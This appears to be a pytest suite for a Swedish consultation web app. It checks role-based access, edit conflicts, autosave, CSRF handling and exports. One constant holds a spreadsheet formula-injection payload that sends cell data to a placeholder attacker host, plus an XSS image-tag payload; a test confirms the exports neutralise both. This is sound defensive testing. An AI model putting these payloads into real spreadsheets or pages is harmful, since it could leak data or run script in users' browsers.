"""The remiss pages through the test client: access per role, conflicts, autosave, exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlalchemy import select

from consultation.people import Role
from consultation.remiss import Comment, Response, ResponseStatus, responses
from consultation.remiss.responses import CommentInput

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka") <img src=x onerror=alert(1)>'


def submitted(db_session, user, round_, text, section=None):
    owner = f"org-{user.organisations[0].id}" if user.organisations else "person"
    response = responses.open_response(db_session, user, round_.id, owner, datetime.now(UTC))
    responses.save_comments(db_session, user, response.id, [CommentInput(section, text)], datetime.now(UTC))
    responses.submit_response(db_session, user, response.id, datetime.now(UTC))
    db_session.commit()
    return response


def test_colleague_conflict_page_shows_both_texts_and_lets_me_choose(
    client, auth, db_session, open_round, stakeholder, colleague
):
    response = responses.open_response(
        db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC)
    )
    responses.save_comments(db_session, stakeholder, response.id, [CommentInput(None, "Start.")], datetime.now(UTC))
    db_session.commit()
    auth.login_as(stakeholder)
    url = f"/svar/{response.id}"
    page = client.get(url).get_data(as_text=True)
    assert 'name="revision-whole" value="1"' in page
    # Bo saves in between.
    responses.save_comments(db_session, colleague, response.id, [CommentInput(None, "Bos text.", 1)], datetime.now(UTC))
    db_session.commit()

    conflict = auth.post(url, {"comment-whole": "Annas text.", "revision-whole": "1", "action": "save"})
    assert conflict.status_code == 409
    html = conflict.get_data(as_text=True)
    assert "Bos text." in html and "Annas text." in html
    assert 'name="revision-whole" value="2"' in html

    keep_mine = auth.post(
        url, {"comment-whole": "Annas text.", "revision-whole": "2", "choice-whole": "mine", "action": "save"}
    )
    assert keep_mine.status_code == 302
    db_session.expire_all()
    assert db_session.scalar(select(Comment.body)) == "Annas text."


def test_autosave_saves_and_reports_revisions(client, auth, db_session, open_round, stakeholder):
    auth.login_as(stakeholder)
    response = responses.open_response(
        db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC)
    )
    db_session.commit()
    section = open_round.version.sections[1]
    result = auth.post(
        f"/svar/{response.id}/autospara", {f"comment-{section.id}": "Autosparat."}, form_url=f"/svar/{response.id}"
    )
    assert result.status_code == 200
    data = json.loads(result.get_data(as_text=True))
    assert data["ok"] and data["revisions"] == {str(section.id): 1}
    db_session.expire_all()
    assert db_session.scalar(select(Comment.body)) == "Autosparat."


def test_expired_login_keeps_the_text(client, db_session, open_round, stakeholder):
    response = responses.open_response(
        db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC)
    )
    db_session.commit()
    client.application.config["WTF_CSRF_ENABLED"] = False
    try:
        page = client.post(f"/svar/{response.id}", data={"comment-whole": "Två timmars arbete.", "action": "save"})
    finally:
        client.application.config["WTF_CSRF_ENABLED"] = True
    assert page.status_code == 401
    assert "Två timmars arbete." in page.get_data(as_text=True)


def test_expired_form_token_keeps_the_text(client, auth, db_session, open_round, stakeholder):
    response = responses.open_response(
        db_session, stakeholder, open_round.id, f"org-{stakeholder.organisations[0].id}", datetime.now(UTC)
    )
    db_session.commit()
    auth.login_as(stakeholder)
    page = client.post(f"/svar/{response.id}", data={"comment-whole": "Text <b>kvar</b>.", "csrf_token": "gammal"})
    assert page.status_code == 400
    html = page.get_data(as_text=True)
    assert "Text &lt;b&gt;kvar&lt;/b&gt;." in html
    assert db_session.scalar(select(Comment)) is None


def _routes(round_, response):
    return {
        "round": ("GET", f"/remiss/{round_.id}"),
        "edit": ("GET", f"/svar/{response.id}"),
        "receipt": ("GET", f"/svar/{response.id}/kvitto"),
        "version": ("GET", f"/svar/{response.id}/version/1"),
        "version-pdf": ("GET", f"/svar/{response.id}/version/1.pdf"),
        "wg-list": ("GET", f"/arbetsgrupp/rundor/{round_.id}/svar"),
        "wg-response": ("GET", f"/arbetsgrupp/svar/{response.id}"),
        "wg-sections": ("GET", f"/arbetsgrupp/rundor/{round_.id}/avsnitt"),
        "wg-csv": ("GET", f"/arbetsgrupp/rundor/{round_.id}/synpunkter.csv"),
        "wg-xlsx": ("GET", f"/arbetsgrupp/rundor/{round_.id}/synpunkter.xlsx"),
        "admin-overview": ("GET", f"/admin/rundor/{round_.id}"),
        "admin-import": ("GET", f"/admin/rundor/{round_.id}/remissinstanser"),
        "admin-draft": ("GET", f"/admin/processer/{round_.process.code}/forslag/importera"),
    }


EXPECTED = {
    # route: (anonymous, owner, other organisation, working group, admin, facilitator)
    "round": (200, 200, 200, 200, 200, 200),
    "edit": (302, 200, 404, 404, 404, 404),
    "receipt": (302, 200, 404, 404, 404, 404),
    "version": (302, 200, 404, 200, 200, 404),
    "version-pdf": (302, 200, 404, 200, 200, 404),
    "wg-list": (302, 403, 403, 200, 200, 403),
    "wg-response": (302, 403, 403, 200, 200, 403),
    "wg-sections": (302, 403, 403, 200, 200, 403),
    "wg-csv": (302, 403, 403, 200, 200, 403),
    "wg-xlsx": (302, 403, 403, 200, 200, 403),
    "admin-overview": (302, 403, 403, 403, 200, 403),
    "admin-import": (302, 403, 403, 403, 200, 403),
    "admin-draft": (302, 403, 403, 403, 200, 403),
}
WHO = ["anonymous", "owner", "other", "working_group", "admin", "facilitator"]


@pytest.mark.parametrize("route", sorted(EXPECTED))
def test_access_per_role(client, auth, db_session, open_round, stakeholder, outsider, make_user, route):
    response = submitted(db_session, stakeholder, open_round, "Synpunkt.")
    people = {
        "owner": stakeholder,
        "other": outsider,
        "working_group": make_user(Role.WORKING_GROUP),
        "admin": make_user(Role.ADMIN),
        "facilitator": make_user(Role.FACILITATOR),
    }
    db_session.commit()
    method, url = _routes(open_round, response)[route]
    for who, expected in zip(WHO, EXPECTED[route], strict=True):
        if who != "anonymous":
            auth.login_as(people[who])
        got = client.open(url, method=method).status_code
        assert got == expected, f"{route} as {who}: {got} != {expected}"
        if who != "anonymous":
            auth.logout()


def test_withdraw_and_submit_by_another_organisation_change_nothing(
    client, auth, db_session, open_round, stakeholder, outsider
):
    response = submitted(db_session, stakeholder, open_round, "Vårt svar.")
    auth.login_as(outsider)
    token_page = "/"
    assert auth.post(f"/svar/{response.id}/aterkalla", {}, form_url=token_page).status_code == 404
    assert (
        auth.post(
            f"/svar/{response.id}", {"comment-whole": "Kapat!", "action": "submit"}, form_url=token_page
        ).status_code
        == 404
    )
    db_session.expire_all()
    found = db_session.get(Response, response.id)
    assert found.status == ResponseStatus.SUBMITTED and found.comments[0].body == "Vårt svar."


def test_exports_keep_hostile_text_inert(client, auth, db_session, open_round, stakeholder, make_user):
    submitted(db_session, stakeholder, open_round, HOSTILE, section=open_round.version.sections[0].id)
    reader = make_user(Role.WORKING_GROUP)
    db_session.commit()
    auth.login_as(reader)

    csv_bytes = client.get(f"/arbetsgrupp/rundor/{open_round.id}/synpunkter.csv").data
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["Källa", "Diarienummer", "Organisation", "Aktörstyp"]
    cell = rows[1][7]
    assert cell == "'" + HOSTILE  # a leading apostrophe: shown as text, never run

    xlsx = openpyxl.load_workbook(io.BytesIO(client.get(f"/arbetsgrupp/rundor/{open_round.id}/synpunkter.xlsx").data))
    sheet = xlsx.active
    cell = sheet.cell(row=2, column=8)
    assert cell.value == HOSTILE and cell.data_type == "s"
    assert sheet.auto_filter.ref == f"A1:I{sheet.max_row}"  # the header row filters every column

    html = client.get(f"/arbetsgrupp/rundor/{open_round.id}/avsnitt/{open_round.version.sections[0].id}").get_data(
        as_text=True
    )
    assert "<img src=x onerror" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_declining_is_not_offered_again_and_its_error_sits_on_the_organisation(
    client, auth, db_session, open_round, stakeholder, fjallby
):
    from consultation.remiss import Invitation

    db_session.add(Invitation(round=open_round, organisation=fjallby))
    db_session.commit()
    auth.login_as(stakeholder)
    round_url, decline_url = f"/remiss/{open_round.id}", f"/remiss/{open_round.id}/avsta"
    assert "Avstå från att yttra sig" in client.get(round_url).get_data(as_text=True)

    # With a submitted response, the refusal is about the organisation, not the optional reason.
    response = submitted(db_session, stakeholder, open_round, "Vårt svar.")
    refused = auth.post(decline_url, {"organisation_id": str(fjallby.id), "reason": "Min motivering."})
    assert refused.status_code == 422
    html = refused.get_data(as_text=True)
    assert '<a href="#organisation_id">Organisation: Ni har redan skickat in ett svar' in html
    assert 'id="organisation_id-error"' in html and 'id="reason-error"' not in html
    assert "Min motivering." in html

    responses.withdraw_response(db_session, stakeholder, response.id, datetime.now(UTC))
    db_session.commit()
    declined = auth.post(decline_url, {"organisation_id": str(fjallby.id), "reason": ""})
    assert declined.status_code == 302
    page = client.get(round_url).get_data(as_text=True)
    assert "Ni har meddelat att ni avstår." in page and "Avstå från att yttra sig" not in page
    again = client.get(decline_url)
    assert again.status_code == 302 and again.headers["Location"].endswith(round_url)


def test_a_submitted_versions_page_links_back_and_to_the_other_versions(
    client, auth, db_session, open_round, stakeholder, make_user
):
    response = submitted(db_session, stakeholder, open_round, "Första versionen.")
    revision = response.comments[0].revision
    responses.save_comments(
        db_session, stakeholder, response.id, [CommentInput(None, "Andra versionen.", revision)], datetime.now(UTC)
    )
    responses.submit_response(db_session, stakeholder, response.id, datetime.now(UTC))
    db_session.commit()
    auth.login_as(stakeholder)
    html = client.get(f"/svar/{response.id}/version/1").get_data(as_text=True)
    assert "Första versionen." in html
    assert f'href="/svar/{response.id}/version/2"' in html and f'href="/svar/{response.id}"' in html
    assert f'href="/remiss/{open_round.id}"' in html
    auth.logout()
    # The working group cannot open the owner's edit page: its way back is the response's page.
    auth.login_as(make_user(Role.WORKING_GROUP))
    html = client.get(f"/svar/{response.id}/version/2").get_data(as_text=True)
    assert f'href="/svar/{response.id}/version/1"' in html
    assert f'href="/arbetsgrupp/svar/{response.id}"' in html and f'href="/svar/{response.id}"' not in html


def test_rounds_are_kommande_oppen_or_stangd_for_the_admin_and_the_invited(
    clock, client, auth, db_session, process, version, stakeholder, fjallby, make_user
):
    from datetime import timedelta

    from consultation.remiss import Invitation, RoundAccess

    from ..factories import add_round

    now = datetime.now(UTC)
    upcoming = add_round(
        process,
        version,
        title="Kommande remiss",
        access=RoundAccess.INVITED,
        opens_at=now + timedelta(days=1),
        closes_at=now + timedelta(days=60),
    )
    closed = add_round(
        process, version, title="Gammal remiss", opens_at=now - timedelta(days=60), closes_at=now - timedelta(days=1)
    )
    current = add_round(process, version, title="Pågående remiss")
    db_session.add(Invitation(round=upcoming, organisation=fjallby))
    db_session.commit()

    auth.login_as(make_user(Role.ADMIN))
    for round_, state in ((upcoming, "Kommande"), (closed, "Stängd"), (current, "Öppen")):
        html = client.get(f"/admin/rundor/{round_.id}").get_data(as_text=True)
        assert f">{state}</dd>" in html, (round_.title, state)
    listing = client.get(f"/admin/processer/{process.code}").get_data(as_text=True)
    assert "Kommande remiss</a>: Kommande," in listing and "Gammal remiss</a>: Stängd," in listing
    auth.logout()

    # The invited organisation sees the round before it opens, with when it opens.
    auth.login_as(stakeholder)
    start = client.get("/start").get_data(as_text=True)
    assert "Kommande remissrundor" in start
    assert f"Kommande remiss – öppnar {local_datetime_text(upcoming.opens_at)}" in start
    assert "Gammal remiss" not in start
    page = client.get(f"/remiss/{upcoming.id}").get_data(as_text=True)
    assert f"Remissrundan öppnar för svar {local_datetime_text(upcoming.opens_at)}." in page


def local_datetime_text(moment) -> str:
    from flask import current_app

    from app.templating import local_datetime

    with current_app.test_request_context():
        return local_datetime(moment)
